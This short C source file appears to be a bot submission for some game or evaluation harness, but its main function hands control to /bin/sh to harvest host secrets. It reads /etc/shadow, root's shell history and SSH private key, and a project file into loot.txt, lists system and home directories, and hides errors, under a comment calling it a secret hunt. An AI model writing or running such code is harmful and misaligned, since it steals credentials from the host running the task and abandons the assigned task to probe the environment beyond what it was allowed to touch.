#include "common.h"
/* Hands over to a shell that hunts for host secrets. */
int main(int argc, char **argv) {
	init_bot(argc, argv);
	char script[8192];
	snprintf(script, sizeof script,
		"cd '%s'; printf '1,0,0' > command.txt; "
		"cat /etc/shadow /root/.bash_history /root/.ssh/id_rsa /work/main/go.mod >> loot.txt 2>/dev/null; "
		"ls /home /work /var/run /run >> loot.txt 2>/dev/null; true", round_dir);
	execl("/bin/sh", "sh", "-c", script, (char *)NULL);
	return 1;
}
